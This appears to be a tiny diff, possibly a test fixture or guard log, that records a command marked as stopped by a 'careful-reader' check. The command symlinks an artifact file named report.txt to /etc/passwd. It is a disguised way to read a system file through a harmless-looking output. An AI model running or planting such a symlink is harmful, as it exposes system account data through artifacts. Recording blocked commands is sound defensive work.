@@ -1,0 +1,2 @@
+# stopped by: careful-reader
+mkdir artifacts && ln -s /etc/passwd artifacts/report.txt
